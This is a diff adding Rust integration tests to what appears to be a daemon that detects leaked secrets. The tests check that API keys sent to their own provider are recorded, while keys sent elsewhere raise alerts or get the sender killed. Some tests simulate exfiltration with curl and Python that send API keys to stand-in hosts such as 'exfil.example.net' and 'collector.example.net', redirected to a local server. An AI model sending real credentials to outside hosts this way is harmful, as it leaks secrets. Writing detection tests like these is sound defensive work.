@@ -198,3 +198,151 @@ fn tls_node_https_request() {
     d.stop();
     d.assert_no_plaintext(&[&secret]);
 }
+
+/// curl to `host` (resolved to the local server), the key in a header read from a file
+/// (not argv): SNI and `Host:` name `host`.
+fn curl_as(d: &Daemon, srv: &TlsServer, host: &str, header: &str) -> u32 {
+    let hfile = d.scratch().join(format!("h-{host}"));
+    std::fs::write(&hfile, format!("{header}\n")).unwrap();
+    let mut c = Command::new("curl")
+        .args(["-sk", "-o", "/dev/null", "--resolve"])
+        .arg(format!("{host}:{}:127.0.0.1", srv.port))
+        .arg("-H")
+        .arg(format!("@{}", hfile.display()))
+        .arg(format!("https://{host}:{}/v1/messages", srv.port))
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "curl https").success());
+    pid
+}
+
+/// Every agent sends its model key to its provider: that is recorded, not alerted. The
+/// same kind of key sent to another host alerts and names the host.
+#[test]
+fn tls_key_sent_to_its_own_provider_is_expected_elsewhere_alerts() {
+    let mut d = Daemon::start("tls-expected");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (own, own_text) = secret("anthropic-api-key");
+    let own_fp = fingerprint(&own);
+    let before = d.metric(
+        "leakwatch_expected_sends_total",
+        &[("rule", "anthropic-api-key")],
+    );
+    let pid = curl_as(
+        &d,
+        &srv,
+        "api.anthropic.com",
+        &format!("x-api-key: {own_text}"),
+    );
+    d.wait_metric(
+        "leakwatch_expected_sends_total",
+        &[("rule", "anthropic-api-key")],
+        "the send to api.anthropic.com recorded as expected",
+        |v| v > before,
+    );
+    let (other, other_text) = secret("anthropic-api-key");
+    let other_fp = fingerprint(&other);
+    let pid2 = curl_as(
+        &d,
+        &srv,
+        "exfil.example.net",
+        &format!("x-api-key: {other_text}"),
+    );
+    let a = tls_finding(&d, &other_fp, pid2, "the key sent to another host");
+    assert_eq!(s(&a, "host"), "exfil.example.net", "{a:#}");
+    check(&a, &srv, "curl");
+    // By then the first send has long been through the pipeline: it raised nothing.
+    let own_alerts: Vec<Value> = d
+        .findings(&own_fp)
+        .into_iter()
+        .filter(|a| n(a, "pid") == pid as u64)
+        .collect();
+    assert!(
+        own_alerts.is_empty(),
+        "expected send alerted: {own_alerts:#?}"
+    );
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&own, &other]);
+}
+
+/// Plain HTTP names its host in the `Host:` header.
+#[test]
+fn plain_http_host_header_names_the_host() {
+    let mut d = Daemon::start("http-host");
+    let sink = HttpSink::start();
+    let (secret, text) = secret("openai-project-key");
+    let fp = fingerprint(&secret);
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import http.client, sys\n\
+             c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]))\n\
+             c.request('POST', '/ingest', '{\"k\": \"' + sys.argv[2] + '\"}', \
+             {'Host': 'collector.example.net'})\n\
+             c.getresponse().read()\n",
+        )
+        .arg(sink.port.to_string())
+        .arg(&text)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "python http").success());
+    let a = wait_until(20, "the key sent over plain HTTP", || {
+        d.findings(&fp)
+            .into_iter()
+            .find(|a| n(a, "pid") == pid as u64 && s(a, "source") == "socket")
+    });
+    assert_eq!(s(&a, "host"), "collector.example.net", "{a:#}");
+    assert_eq!(s(&a, "remote"), sink.addr(), "{a:#}");
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+/// A frozen key is expected nowhere: sent over TLS (even to its own provider's name) its
+/// sender is killed.
+#[test]
+fn tls_frozen_key_sender_is_killed() {
+    let mut d = Daemon::start("tls-frozen");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (secret, text) = secret("openai-project-key");
+    let out = freeze_with(&d, &secret, &[]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // Read from a file: in argv or the environment the kernel would kill it at exec.
+    let kfile = d.scratch().join("key");
+    std::fs::write(&kfile, &text).unwrap();
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import socket, ssl, sys, time\n\
+             key = open(sys.argv[2]).read()\n\
+             ctx = ssl._create_unverified_context()\n\
+             s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', int(sys.argv[1]))), \
+             server_hostname='api.openai.com')\n\
+             body = '{\"api_key\": \"' + key + '\"}'\n\
+             s.sendall(('POST / HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Length: %d\\r\\n\\r\\n%s' \
+             % (len(body), body)).encode())\n\
+             time.sleep(30)\n",
+        )
+        .arg(srv.port.to_string())
+        .arg(&kfile)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    let st = wait_exit(&mut c, 20, "the sender of a frozen key being killed");
+    assert!(!st.success(), "the sender survived");
+    let k = d.wait_alert("a kill of the TLS sender", |a| {
+        s(a, "kind") == "kill" && n(a, "pid") == pid as u64
+    });
+    assert_eq!(s(&k, "by"), "write", "{k:#}");
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
